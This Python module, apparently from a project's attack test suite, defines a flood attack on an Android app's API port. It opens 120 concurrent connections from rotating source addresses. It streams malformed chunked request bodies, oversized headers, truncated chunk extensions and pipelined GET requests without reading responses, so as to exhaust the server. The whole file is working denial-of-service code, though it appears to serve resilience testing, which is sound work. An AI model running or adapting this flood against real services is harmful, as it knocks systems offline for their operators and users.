"""The Android app's port: bodies in the smallest pieces, fields behind bodies, requests at once."""

import asyncio

from tests.attacks.attack import LOST, Attack, Outcome, Target, sources

AT_ONCE = 120
CHUNKED = "Transfer-Encoding: chunked"
PATH = "POST /api/logs/activity/"


async def burden(target: Target) -> Outcome:
    """Send what is no body and no single request, as fast as it is taken, and read no answer."""
    sent, elsewhere = 0, sources(79)
    addresses = [next(elsewhere) for _ in range(30)]
    get = target.head("GET /nothing")
    ways = (
        (target.head(PATH, CHUNKED), b"1\r\n \r\n" * 5_000),
        (target.head(PATH, CHUNKED) + b"2\r\n{}\r\n0\r\n", b"X: " + b"x" * 8_000 + b"\r\n"),
        (target.head(PATH, CHUNKED) + b"2;", b"x" * 60_000),
        (get, get * 800),
    )

    async def one(number: int) -> None:
        nonlocal sent
        first, again = ways[number % len(ways)]
        while not target.is_over:
            try:
                source = addresses[number % len(addresses)]
                _reader, writer = await target.open_line(source, target.android_url)
            except LOST:
                await asyncio.sleep(0.05)
                continue
            try:
                writer.write(first)
                while not target.is_over:
                    writer.write(again)
                    async with asyncio.timeout(2):
                        await writer.drain()
                    sent += len(again)
            except LOST:
                pass
            finally:
                writer.transport.abort()

    await asyncio.gather(*(one(n) for n in range(AT_ONCE)))
    return Outcome(f"{sent >> 20} MB around bodies and of requests at once")


ATTACK = Attack(
    "app-port",
    "Sends bodies in pieces of one byte, and requests at once, to the Android app's port.",
    burden,
    is_flood=True,
)
